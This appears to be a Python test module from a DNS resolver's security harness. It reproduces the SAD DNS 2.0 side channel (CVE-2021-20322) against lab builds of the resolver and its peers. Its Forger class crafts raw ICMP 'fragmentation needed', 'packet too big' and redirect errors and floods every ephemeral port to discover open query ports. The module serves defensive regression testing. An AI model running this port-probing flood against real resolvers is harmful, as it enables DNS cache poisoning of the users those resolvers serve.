"""Decides SAD DNS 2.0: forged ICMP errors that leave a trace in the resolver's routes when they name an open port.

The kernel looks for the socket that an ICMP error quotes. Finds it none, nothing happens; finds it one, "fragmentation
needed" and a redirect become an exception to the route of that server, of which side channels tell. The attacker sends
an error for each port of 49152-65535 while a question is out. Three errors, each in a window of its own:
"fragmentation needed" (IPv4), "packet too big" (IPv6) and, in the name of the resolver's gateway, a redirect to another
machine on its link. Two rows:

* `sad-dns-2`: the two about sizes. The weakened build leaves IP_MTU_DISCOVER as it is for any socket.
* `redirect`: no option of a socket keeps that off. Linux obeys redirects unless net.ipv4.conf.*.accept_redirects says
  no, and `berth check` says so; as shipped, the operator has done it. The weakened one is berthd as shipped on a machine
  that was left as it is: the exceptions appear, and the note has to be there.
"""

from __future__ import annotations

import struct
import time

from stage import ip, shut, wire
from stage.attack import Attack, Result, Scene
from stage.ground import Ground, Host
from stage.slow import slow, teach_slow
from stage.targets import Berthd, Kresd, Unbound
from stage.zones import Servers

PORTS = {"berthd": range(49152, 65536), "unbound": range(1024, 65536), "kresd": range(32768, 61000)}
WINDOWS = 5
ZONE = "mtu-%d-%d."  # family and window: an exception stays, so each window has a server of its own
FAMILIES = (4, 6)
OUT_S = 0.02
GATEWAY, OTHER_GATEWAY = "198.18.1.254", "198.18.1.253"  # both are the router's
MTU, MTU6 = 600, 1280
ICMP6 = 58


def prepare(servers: Servers) -> None:
    for family in FAMILIES:
        for number in range(WINDOWS):
            servers.add(ZONE % (family, number), speech=slow(servers), families=(family,))


def exceptions(host: Host, server: str) -> set[str]:
    """What the kernel learnt of routes, a line for each. It lists an exception only after somebody went that way."""
    host.run("ip", "route", "get", server)
    lines = host.run("ip", "route", "show", "cache") + host.run("ip", "-6", "route", "show", "cache")
    return {line.split(" dev")[0] for line in lines.splitlines() if not line.startswith(" ")}


class Forger:
    """ICMP errors about a datagram that the resolver sent to a server: only the port changes from one to the next."""

    def __init__(self, ground: Ground, source: str, server: str):
        self.source, self.server = source, server
        self.target = ground.R.address6 if ":" in server else ground.R.address
        self.sender = ip.RawSender(ground.A)

    def flood(self, ports: range, kind: int, code: int, rest: bytes) -> None:
        six = ":" in self.server
        quoted = bytearray(ip.packet(self.target, self.server, ip.UDP, struct.pack("!4H", 0, 53, 40, 0)))
        quoted[4 if six else 2:6 if six else 4] = struct.pack("!H", 40 if six else 60)  # as long as the question was
        base = ip.ones_sum(struct.pack("!BBH", kind, code, 0) + rest + quoted)
        if six:
            base += ip.ones_sum(ip.ip_address(self.source).packed + ip.ip_address(self.target).packed +
                                struct.pack("!IHBB", 8 + len(quoted), 0, 0, ICMP6))
        at = 40 if six else 20
        for port in ports:
            quoted[at:at + 2] = struct.pack("!H", port)
            total = base + port
            while total > 0xFFFF:
                total = (total & 0xFFFF) + (total >> 16)
            error = struct.pack("!BBH", kind, code, 0xFFFF - total) + rest + quoted
            self.sender.send(ip.packet(self.source, self.target, ICMP6 if six else ip.ICMP, error))

    def close(self) -> None:
        self.sender.close()


def window(scene: Scene, number: int, family: int, source: str, error: tuple[int, int, bytes]) -> list[str]:
    """The exceptions that come of one flood while a question is out."""
    ground = scene.ground
    zone = scene.servers.zones[FAMILIES.index(family) * WINDOWS + number]
    server = zone.address if family == 4 else zone.address6
    forger = Forger(ground, source, server)
    before = exceptions(ground.R, server)
    with ground.C.socket() as sock:
        sock.sendto(wire.query("www." + ZONE % (family, number)), (ground.R.address, 53))
        time.sleep(OUT_S)
    forger.flood(PORTS[scene.target.program], *error)
    forger.close()
    return sorted(exceptions(ground.R, server) - before)


def teach(scene: Scene, families: tuple[int, ...]) -> range:
    """Which windows there will be. Knot Resolver asks a slow server over TCP, so it is better not told."""
    numbers = range(scene.size(WINDOWS, 2))
    if scene.target.program != "kresd":
        teach_slow(scene.target, *(ZONE % (family, number) for family in families for number in numbers))
    return numbers


def run_mtu(scene: Scene) -> Result:
    numbers = teach(scene, FAMILIES)
    ground = scene.ground
    found = {
        "fragmentation needed": [window(scene, n, 4, ground.A.address, (3, 4, struct.pack("!HH", 0, MTU))) for n in numbers],
        "packet too big": [window(scene, n, 6, ground.A.address6, (2, 0, struct.pack("!I", MTU6))) for n in numbers],
    }
    text = ", ".join("%d of %d windows with \"%s\" left an exception" % (sum(map(bool, of)), len(of), kind)
                     for kind, of in found.items())
    return Result(any(map(any, found.values())), text, found)


def two_gateways(ground: Ground) -> None:
    """Another machine on the resolver's link, and a router that forwards what claims to come from itself."""
    ground.give(ground.G, "R", OTHER_GATEWAY + "/24")
    ground.G.sysctl("net.ipv4.conf.all.accept_local", 1)
    with ground.R.socket() as sock:
        sock.sendto(b"", (OTHER_GATEWAY, 9))  # the resolver has met it before


class Settled(Berthd):
    """berthd as shipped, on a machine whose operator did what `berth check` asks for, or not."""

    def __init__(self, column: str):
        super().__init__()
        self.column = column

    def settle(self) -> None:
        if self.column == "shipped":
            for interface in ("all", "default", shut.PREFIX + "up"):
                self.ground.R.sysctl("net.ipv4.conf.%s.accept_redirects" % interface, 0)


def run_redirect(scene: Scene) -> Result:
    numbers = teach(scene, (4,))
    found = [window(scene, number, 4, GATEWAY, (5, 1, wire.address(OTHER_GATEWAY))) for number in numbers]
    hits = sum(map(bool, found))
    text = "%d of %d windows left an exception" % (hits, len(found))
    if scene.target.program == "berthd":
        is_told = any("obeys ICMP redirects" in line["text"] for line in scene.target.control("ports")["lines"])
        if is_told != (scene.target.column == "weakened"):
            raise RuntimeError("%s, and the note about redirects is %s" % (text, "there" if is_told else "not there"))
        text += ", and berth check warns of it" if is_told else ""
    return Result(hits > 0, text, {"exceptions": found})


ATTACKS = [
    Attack(
        name="sad-dns-2",
        title="forged \"fragmentation needed\" for the port of a question",
        reference="Man et al. 2021 (SAD DNS 2.0); CVE-2021-20322",
        defence="IP_MTU_DISCOVER and IPV6_MTU_DISCOVER are IP_PMTUDISC_OMIT: the kernel does not listen to such errors",
        weakness="the options are left as they are",
        prepare=prepare,
        run=run_mtu,
        shipped=Berthd,
        weakened=lambda: Berthd("pmtu"),
        peers=[Unbound, Kresd],
        ipv6=True,
    ),
    Attack(
        name="redirect",
        title="forged ICMP redirects for the port of a question",
        reference="Man et al. 2021 (SAD DNS 2.0); CVE-2021-20322",
        defence="none in berthd; the preflight tells the operator to switch redirects off",
        weakness="nothing in berthd: the kernel obeys redirects, as it does unless it is told not to",
        prepare=prepare,
        run=run_redirect,
        shipped=lambda: Settled("shipped"),
        weakened=lambda: Settled("weakened"),
        peers=[Unbound, Kresd],
        change_ground=two_gateways,
        is_short=False,
    ),
]
